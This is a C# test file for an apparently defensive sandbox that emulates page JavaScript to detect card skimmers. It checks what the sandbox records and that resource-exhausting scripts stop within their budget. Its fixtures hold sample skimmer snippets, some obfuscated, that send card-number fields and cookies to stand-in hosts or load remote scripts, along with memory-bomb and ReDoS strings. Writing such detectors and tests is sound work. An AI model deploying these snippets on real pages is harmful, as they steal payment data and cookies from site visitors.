using Scanner.Core.Analyzers.Emulation;

namespace Scanner.Core.Tests.Analyzers.Emulation;

/// <summary>The sandbox: what it records, and that hostile scripts cost at most their budget.</summary>
public sealed class ScriptEmulatorTests
{
    private const string PageUrl = "https://www.example.gov.cn/news/1.html";

    /// <summary>For the tests of what is recorded: time enough on a machine loaded many times over (the bounds have their own tests).</summary>
    private static EmulationTrace RunGenerously(string script) =>
        ScriptEmulator.Run(script, PageUrl, new EmulationBudget(TimeSpan.FromSeconds(120)), TimeSpan.FromSeconds(60));

    // Code that exists only at run time: a character-shift decoder (each character one code higher) feeds eval.
    private static string Shifted(string code) =>
        "var p='" + string.Concat(code.Select(c => (char)(c + 1) switch { '\'' => "\\'", '\\' => "\\\\", var s => s.ToString() })) + "';"
        + "eval(p.replace(/./g,function(c){return String.fromCharCode(c.charCodeAt(0)-1)}));";

    [Fact]
    public void Records_the_code_a_decoder_builds_and_what_that_code_does()
    {
        var payload = "document.addEventListener('DOMContentLoaded',function(){var x=new XMLHttpRequest();"
            + "x.open('POST','https://stats-cdn.example.biz/c.php');x.send('n='+document.getElementById('cc_number').value);});";
        var trace = RunGenerously(Shifted(payload));

        Assert.True(trace.Ran);
        Assert.True(trace.Of("code").Any(e => e.Text.Contains("XMLHttpRequest", StringComparison.Ordinal)),
            $"no code recorded; the run stopped with: {trace.Stop}; events: {string.Join(" | ", trace.Events)}");
        Assert.Contains(trace.Of("xhr"), e => e.Text == "POST https://stats-cdn.example.biz/c.php");
        Assert.Contains(trace.Of("field"), e => e.Text == "#cc_number");
        Assert.Contains(trace.Of("send"), e => e.Text.StartsWith("n=4111", StringComparison.Ordinal));
        var script = trace.AsScript();
        Assert.Contains("XMLHttpRequest.open(\"POST\", \"https://stats-cdn.example.biz/c.php\")", script, StringComparison.Ordinal);
    }

    [Fact]
    public void Timers_written_markup_and_unknown_globals_run_too()
    {
        const string script = """
            Mage.Cookies.set('x', 1);
            setTimeout(function () { document.write('<script>window.location.href = "https://jump.example.top/?" + document.cookie</' + 'script>'); }, 5000);
            jQuery('#payment_form_ccsave').on('submit', function () { $.ajax({ url: 'https://c.example.su/g', type: 'POST', data: { v: $('#ccsave_cc_number').val() } }); });
            """;
        var trace = RunGenerously(script);

        Assert.Contains(trace.Of("markup"), e => e.Text.Contains("jump.example.top", StringComparison.Ordinal));
        Assert.Contains(trace.Of("navigate"), e => e.Text.StartsWith("https://jump.example.top/", StringComparison.Ordinal));
        Assert.Contains(trace.Of("ajax"), e => e.Text == "POST https://c.example.su/g");
        Assert.Contains(trace.Of("send"), e => e.Text.Contains("4111", StringComparison.Ordinal));
    }

    [Fact]
    public void A_decoder_keyed_on_its_own_source_reads_it()
    {
        // As atmzow.js does: the function's own text (fn.toString()) and the running <script>'s text are the keys.
        const string script = """
            (function K(){ var own = K.toString().length > 20 && document.getElementsByTagName('script')[0].innerHTML.indexOf('K.toString') > 0;
              if (own) { var s = document.createElement('script'); s.src = 'https://load.example.pw/k.js'; document.head.appendChild(s); } })();
            """;
        var trace = RunGenerously(script);
        Assert.Contains(trace.Of("script"), e => e.Text == "https://load.example.pw/k.js");
    }

    [Fact]
    public void An_endless_loop_ends_at_its_budget_with_what_it_recorded()
    {
        var budget = new EmulationBudget();
        var trace = ScriptEmulator.Run("new Image().src='https://a.example.biz/1'; while(true){}", PageUrl, budget);
        Assert.True(trace.Ran);
        Assert.NotNull(trace.Stop);
        Assert.Contains(trace.Of("image"), e => e.Text == "https://a.example.biz/1");
        // A generous bound: the per-script limit plus a margin for a loaded machine.
        Assert.True(trace.Elapsed < ScriptEmulator.PerScript + TimeSpan.FromSeconds(5), $"ran {trace.Elapsed}");
        Assert.Equal(1, budget.ScriptsRun);
    }

    [Fact]
    public void A_loop_of_slow_statements_ends_at_the_time_limit()
    {
        // Few statements, each slow and allocating nothing: the statement and memory limits would take minutes, the time limit ends it.
        const string script = "var t = new Float64Array(500000); while (true) { t.indexOf(7); t.lastIndexOf(7); }";
        var trace = ScriptEmulator.Run(script, PageUrl, new EmulationBudget());
        Assert.True(trace.Stop is { } stop && (stop.Contains("Cancel", StringComparison.Ordinal) || stop.Contains("Timeout", StringComparison.Ordinal)), trace.Stop);
        Assert.True(trace.Elapsed < ScriptEmulator.PerScript + TimeSpan.FromSeconds(5), $"ran {trace.Elapsed}");
    }

    [Theory]
    [InlineData("var s = 'x'; var a = []; while (true) { s += s; a.push(s + '1'); }")]
    [InlineData("var a = []; for (;;) a.push(new Array(100000).fill('abcdefgh'));")]
    [InlineData("'x'.repeat(2147483647)")]
    [InlineData("function f(n) { return f(n + 1) + 1; } f(0);")]
    [InlineData("var a = new Array(4294967295); a.fill(1);")]
    [InlineData("/(a+)+$/.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!')")]
    [InlineData("this is not javascript {")]
    public void Hostile_scripts_end_without_an_exception(string script)
    {
        var trace = ScriptEmulator.Run(script, PageUrl, new EmulationBudget());
        Assert.True(trace.Ran);
        Assert.NotNull(trace.Stop);
        Assert.True(trace.Elapsed < ScriptEmulator.PerScript + TimeSpan.FromSeconds(5), $"ran {trace.Elapsed}");
    }

    [Fact]
    public void The_sandbox_has_no_clr_nor_network()
    {
        const string script = """
            var probes = [typeof importNamespace, typeof System, typeof require, typeof process, typeof host, typeof clrHelper];
            __record('probe', probes.join(','));
            try { System.IO.File.WriteAllText('/tmp/x', 'y'); } catch (e) { __record('probe', 'blocked'); }
            """;
        var trace = RunGenerously(script);
        Assert.Contains(trace.Of("probe"), e => e.Text == "undefined,undefined,undefined,undefined,undefined,undefined");
        Assert.Contains(trace.Of("probe"), e => e.Text == "blocked");
    }

    [Fact]
    public void A_page_shares_one_budget_of_scripts()
    {
        var budget = new EmulationBudget(scripts: 2);
        Assert.True(ScriptEmulator.Run("var a = 1;", PageUrl, budget).Ran);
        Assert.True(ScriptEmulator.Run("var a = 1;", PageUrl, budget).Ran);
        Assert.False(ScriptEmulator.Run("new Image().src='https://a.example.biz/1'", PageUrl, budget).Ran);
        Assert.Equal(2, budget.ScriptsRun);
    }

    [Fact]
    public void Endless_scripts_of_one_page_cost_at_most_the_page_budget()
    {
        var budget = new EmulationBudget(TimeSpan.FromSeconds(2), scripts: 1000);
        var skipped = false;
        for (var i = 0; i < 200 && !skipped; i++) skipped = !ScriptEmulator.Run("while(true){}", PageUrl, budget).Ran;
        Assert.True(skipped, "200 endless scripts all ran: the page's time allowance stopped none of them");
        Assert.True(budget.Spent < TimeSpan.FromSeconds(2) + ScriptEmulator.PerScript + TimeSpan.FromSeconds(5), $"spent {budget.Spent}");
    }
}
